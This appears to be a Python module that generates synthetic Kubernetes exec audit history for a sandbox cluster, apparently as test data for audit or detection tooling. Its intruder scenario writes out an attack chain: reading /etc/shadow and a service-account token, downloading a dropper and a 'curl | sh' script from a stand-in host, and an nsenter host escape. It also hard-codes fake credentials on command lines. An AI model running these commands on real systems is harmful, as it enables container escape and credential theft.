"""Seven days of container operation audit history for the audited sandbox cluster.

Who does what (usernames are what ACK puts in the audit log: a RAM user's numeric UID):
- an SRE in `system:masters` who debugs from the `default/debug-toolbox` pod and pokes databases;
- developers of the payments, web and data teams in their own namespaces, in working hours;
- an on-call engineer with the odd evening session;
- the CI service account `system:serviceaccount:ci:deployer`, which runs migrations and smoke
  tests at fixed times on weekdays;
- ONE intruder: a contractor account seen nowhere else, at 03:07 China Standard Time two days
  before `now`, in a payments-api pod: reconnaissance, a dropper, a host escape with nsenter.
Some commands carry secrets on their command line (`SEEDED_SECRETS`), as they do in real life.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

from ackaudit.sandbox.events import SessionRecorder
from ackaudit.sandbox.world_clusters import CHINA_STANDARD_TIME, DAY
from ackaudit.sandbox.world_shell import PidAllocator, Script, SessionPlayer

MYSQL_PASSWORD = "Pay-Prod-2024x"
REDIS_PASSWORD = "r3dis-Pr0d-7Qk2"
POSTGRES_URL_PASSWORD = "etl-Wh-2025"
API_BEARER_TOKEN = "eyJhbGciOiJSUzI1NiIsImtpZCI6InBheW1lbnRzIn0.eyJzdWIiOiJyZWZ1bmQtYm90In0.c2lnbmF0dXJl"
SEEDED_SECRETS = (MYSQL_PASSWORD, REDIS_PASSWORD, POSTGRES_URL_PASSWORD, API_BEARER_TOKEN)

RDS_HOST = "rm-bp1y5z8c2kx9q3v7w.mysql.rds.aliyuncs.com"
REDIS_HOST = "payments-redis-0.payments-redis.payments.svc"
INTRUDER_SERVER = "203.0.113.77"
AUTHENTICATED = "system:authenticated"


def _ram_user(uid: str, *groups: str) -> dict[str, Any]:
    return {"username": uid, "aliuid": uid, "groups": [*groups, AUTHENTICATED]}


SRE_ADMIN = _ram_user("2036485917305842", "system:masters")            # Wei Zhang, platform SRE
PAYMENTS_DEV = _ram_user("2748193650274811")                           # Li Na, payments backend
WEB_DEV = _ram_user("2615840372918465")                                # Sun Hao, storefront
DATA_ENGINEER = _ram_user("2519370846152963")                          # Chen Jie, data platform
ON_CALL = _ram_user("2287415096638201")                                # Zhou Min, on-call rotation
INTRUDER = _ram_user("2901746385019274")                               # a contractor account
CI_DEPLOYER = {"username": "system:serviceaccount:ci:deployer", "aliuid": "",
               "groups": ["system:serviceaccounts", "system:serviceaccounts:ci", AUTHENTICATED]}
IDENTITIES = (SRE_ADMIN, PAYMENTS_DEV, WEB_DEV, DATA_ENGINEER, ON_CALL, INTRUDER, CI_DEPLOYER)


@dataclass(frozen=True)
class Scenario:
    app: str                     # pods labelled app=<app>
    container: str
    exec_command: tuple[str, ...]
    script: Script = ()
    cwd: str = "/"
    uid: int = 0
    interactive: bool = True


@dataclass
class Role:
    user: dict[str, Any]
    scenarios: list[Scenario]
    weekday_sessions: tuple[int, int]       # sessions per weekday (inclusive range)
    weekend_chance: float                   # chance of one weekend session
    hours: tuple[float, float] = (9.5, 19.5) # local working hours
    evening_chance: float = 0.0             # chance a weekday session happens 21:00-23:30
    weights: list[float] = field(default_factory=list)


# The payments image runs as root, which is also what lets the intruder's nsenter escape work.
PAYMENTS_API = [
    Scenario("payments-api", "api", ("bash",), [
        "ls -la", "cat config/settings/production.py | grep -i timeout", "env | grep -i payments",
        "tail -f /var/log/app/payments.log", "exit"], cwd="/app"),
    Scenario("payments-api", "api", ("bash",), [
        "python manage.py shell", "ps aux | grep gunicorn",
        "grep -c ERROR /var/log/app/payments.log", "exit"], cwd="/app"),
    Scenario("payments-api", "api", ("bash",), [
        "curl -s http://localhost:8080/healthz",
        f'curl -s -H "Authorization: Bearer {API_BEARER_TOKEN}" '
        "http://payments-api.payments.svc:8080/internal/refunds?status=pending",
        "exit"], cwd="/app"),
    Scenario("payments-worker", "worker", ("bash",), [
        "ps aux", "python manage.py celery inspect active", "tail -n 200 /var/log/app/worker.log",
        "exit"], cwd="/app"),
    Scenario("payments-api", "api", ("env",), interactive=False, cwd="/app"),
]
WEB = [
    Scenario("storefront", "storefront", ("sh",), [
        "ls", "cat package.json", "node -v", "npm ls --depth=0", "curl -sI http://localhost:3000/", "exit"],
        cwd="/srv/storefront", uid=1000),
    Scenario("storefront", "nginx", ("sh",), [
        "nginx -T", "cat /etc/nginx/conf.d/default.conf", "tail -f /var/log/nginx/access.log", "exit"]),
    Scenario("storefront", "storefront", ("sh",), [
        "top -b -n 1", "df -h", "du -sh .next/cache", "rm -rf .next/cache/images", "exit"],
        cwd="/srv/storefront", uid=1000),
]
DATA = [
    Scenario("etl-worker", "etl", ("bash",), [
        "ls /data/exports", "pip list", "pip install pandas==2.2.2",
        "python jobs/daily_orders.py --date yesterday --dry-run", "head -n 20 /data/exports/orders.csv", "exit"],
        cwd="/opt/etl"),
    Scenario("etl-worker", "etl", ("bash",), [
        f'psql postgresql://etl:{POSTGRES_URL_PASSWORD}@postgres-0.postgres.data.svc:5432/warehouse '
        '-c "select count(*) from orders"',
        "wc -l /data/exports/orders.csv", "exit"], cwd="/opt/etl"),
    Scenario("postgres", "postgres", ("bash",), [
        "df -h /var/lib/postgresql/data", 'su postgres -c "psql -c \'select pid, state from pg_stat_activity\'"',
        "exit"]),
]
SRE = [
    Scenario("debug-toolbox", "toolbox", ("bash",), [
        "nslookup payments-api.payments.svc.cluster.local", "curl -sv http://storefront.web.svc:3000/healthz",
        "nc -zv payments-redis-0.payments-redis.payments.svc 6379", f"nmap -Pn -p 3306 {RDS_HOST}",
        "apk add --no-cache strace", "exit"], cwd="/root"),
    Scenario("payments-api", "api", ("bash",), [
        f"mysql -h {RDS_HOST} -u payments_rw -p{MYSQL_PASSWORD} payments -e \"show processlist\"",
        "free -m", "exit"], cwd="/app"),
    Scenario("payments-redis", "redis", ("sh",), [
        f"redis-cli -h {REDIS_HOST} -a {REDIS_PASSWORD} info keyspace", "cat /proc/1/status", "exit"],
        cwd="/data"),
    Scenario("payments-api", "api", ("bash",), [
        "ls -lh /tmp", "rm /tmp/heapdump-20250611.hprof", "df -h /tmp", "exit"], cwd="/app"),
    Scenario("debug-toolbox", "toolbox", ("bash",), [
        "dig +short storefront.web.svc.cluster.local", "curl -s http://10.0.64.1:10255/healthz",
        "tcpdump -c 20 -i eth0 port 53", "exit"], cwd="/root"),
]
ON_CALL_SCENARIOS = [
    Scenario("payments-worker", "worker", ("bash",), [
        "ps aux | grep celery", "tail -n 500 /var/log/app/worker.log | grep -i timeout", "exit"],
        cwd="/app"),
    Scenario("storefront", "storefront", ("sh",), [
        "curl -s http://localhost:3000/api/ready", "cat /proc/loadavg", "exit"], cwd="/srv/storefront", uid=1000),
]
CI_MIGRATE = Scenario("payments-api", "api", (
    "sh", "-c", "python manage.py migrate --noinput && python manage.py check --deploy"),
    cwd="/app", interactive=False)
CI_SMOKE = Scenario("storefront", "storefront", (
    "sh", "-c", "curl -fsS http://localhost:3000/healthz | grep ok"),
    cwd="/srv/storefront", uid=1000, interactive=False)
INTRUSION = Scenario("payments-api", "api", ("sh",), [
    "id", "uname -a", "cat /etc/shadow", "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    f"wget -q http://{INTRUDER_SERVER}/x.b64 -O /tmp/.x.b64",
    "base64 -d /tmp/.x.b64 > /tmp/.x.sh", "chmod +x /tmp/.x.sh",
    ("/tmp/.x.sh", ["uname -m", "cat /proc/self/cgroup", "ls /var/run/containerd"]),
    "nsenter -t 1 -m -u -i -n sh",
    "id", "hostname", "crictl ps",
    (f"curl -fsSL http://{INTRUDER_SERVER}/k.sh | sh", ["mkdir -p /var/tmp/.cache", "crontab -l",
                                                       f"wget -q http://{INTRUDER_SERVER}/kd -O /var/tmp/.cache/kd"]),
    "exit", "rm -f /tmp/.x.sh /tmp/.x.b64", "exit"], cwd="/app")

ROLES = [
    Role(SRE_ADMIN, SRE, (2, 4), 0.3),
    Role(PAYMENTS_DEV, PAYMENTS_API, (2, 4), 0.1, weights=[3, 2, 2, 2, 1]),
    Role(WEB_DEV, WEB, (1, 3), 0.0, hours=(10.0, 20.0)),
    Role(DATA_ENGINEER, DATA, (1, 3), 0.2, hours=(9.0, 18.5)),
    Role(ON_CALL, ON_CALL_SCENARIOS, (0, 2), 0.5, evening_chance=0.5),
]
CI_TIMES = ((10, 0), (16, 0))          # local time of the weekday deploy pipeline
INTRUSION_DAYS_AGO = 2
RECENT_HOURS = 20        # some session always starts this close to `now`
INTRUSION_TIME = (3, 7)
INTRUSION_IDS_SEED = "sandbox intrusion"


@dataclass(frozen=True, order=True)
class PlannedSession:
    start: float
    user: dict[str, Any] = field(compare=False)
    scenario: Scenario = field(compare=False)


def plan_sessions(rng: random.Random, now: float, days: int = 7) -> list[PlannedSession]:
    """Who execs into what, when, over the `days` before `now` (sessions that end before `now`)."""
    local_now = datetime.fromtimestamp(now, CHINA_STANDARD_TIME)
    today = local_now.replace(hour=0, minute=0, second=0, microsecond=0)
    planned: list[PlannedSession] = []
    for days_ago in range(days, -1, -1):
        midnight = today - timedelta(days=days_ago)
        weekday = midnight.weekday() < 5
        for role in ROLES:
            for start in _role_starts(rng, role, midnight, weekday):
                scenario = rng.choices(role.scenarios, weights=role.weights or None)[0]
                planned.append(PlannedSession(start, role.user, scenario))
        if weekday:
            for hour, minute in CI_TIMES:
                start = midnight.replace(hour=hour, minute=minute).timestamp() + rng.uniform(5, 50)
                planned.append(PlannedSession(start, CI_DEPLOYER, CI_MIGRATE))
                planned.append(PlannedSession(start + rng.uniform(60, 150), CI_DEPLOYER, CI_SMOKE))
        if days_ago == INTRUSION_DAYS_AGO:
            hour, minute = INTRUSION_TIME
            start = midnight.replace(hour=hour, minute=minute).timestamp() + rng.uniform(0, 59)
            planned.append(PlannedSession(start, INTRUDER, INTRUSION))
    window_start, last_start = now - days * DAY, now - 3600
    kept = [p for p in planned if window_start <= p.start <= last_start]
    kept.extend(_missing_scenarios(rng, [p for p in kept if p.start >= now - (days - 1) * DAY], today, days))
    if not any(p.start >= now - RECENT_HOURS * 3600 for p in kept):
        # A weekend or a night leaves the default window (`query` without --since: the last 24h)
        # empty; the on-call engineer's routine look keeps a first `query` from showing nothing.
        start = now - rng.uniform(1.5, RECENT_HOURS - 2) * 3600
        kept.append(PlannedSession(start, ON_CALL, ON_CALL_SCENARIOS[0]))
    return sorted(kept)


def _missing_scenarios(rng: random.Random, planned: list[PlannedSession], today: datetime,
                       days: int) -> list[PlannedSession]:
    """A session for every scenario the draw left out of the window's recent part, so that whatever the date and
    hour, each one (every secret on a command line, every risky program) is in the history.

    They go on the working days one to five days before today (local time): wholly inside the
    window, and still inside a `--since 7d` asked a while after the world was built."""
    present = {(p.user["username"], id(p.scenario)) for p in planned}
    working_days = [today - timedelta(days=n) for n in range(1, min(days, 6))]
    working_days = [d for d in working_days if d.weekday() < 5] or working_days
    added = []
    for role in ROLES:
        for scenario in role.scenarios:
            if (role.user["username"], id(scenario)) in present:
                continue
            midnight = rng.choice(working_days)
            start = midnight.timestamp() + rng.uniform(*role.hours) * 3600
            added.append(PlannedSession(start, role.user, scenario))
    return added


def _role_starts(rng: random.Random, role: Role, midnight: datetime, weekday: bool) -> list[float]:
    if weekday:
        count = rng.randint(*role.weekday_sessions)
    else:
        count = 1 if rng.random() < role.weekend_chance else 0
    starts = []
    for _ in range(count):
        if weekday and rng.random() < role.evening_chance:
            hour = rng.uniform(21.0, 23.5)
        else:
            hour = rng.uniform(*role.hours)
        starts.append(midnight.timestamp() + hour * 3600)
    return starts


def play_session(cluster: dict[str, Any], planned: PlannedSession, pids: PidAllocator,
                 rng: random.Random) -> list[dict]:
    """The raw rows of one planned session in `cluster`."""
    scenario = planned.scenario
    pods = sorted((p for p in cluster["pods"] if p["labels"].get("app") == scenario.app), key=lambda p: p["name"])
    # The intruder's shell landed on the first payments-api pod; everyone else picks any replica.
    pod = pods[0] if planned.user is INTRUDER else rng.choice(pods)
    # The intrusion's ids are the same in every world (any seed, any `now`): the docs and the
    # commands' help examples name them.
    ids = random.Random(INTRUSION_IDS_SEED) if planned.user is INTRUDER else rng
    recorder = SessionRecorder(cluster, pod, scenario.container, planned.user, list(scenario.exec_command),
                               planned.start, ids, stdin=scenario.interactive, tty=scenario.interactive)
    player = SessionPlayer(recorder, pod["node_name"], pids, rng, planned.start, scenario.interactive)
    player.start(list(scenario.exec_command), cwd=scenario.cwd, uid=scenario.uid)
    player.play(scenario.script)
    return recorder.rows()


def history_rows(cluster: dict[str, Any], *, seed: int, now: float, days: int = 7) -> list[dict]:
    """Every raw audit row of the cluster's history, oldest first."""
    rng = random.Random(seed)
    pids = PidAllocator(rng)
    rows: list[dict] = []
    for planned in plan_sessions(rng, now, days):
        rows.extend(r for r in play_session(cluster, planned, pids, rng) if r["__time__"] < now)
    rows.sort(key=lambda r: r["time"])
    return rows
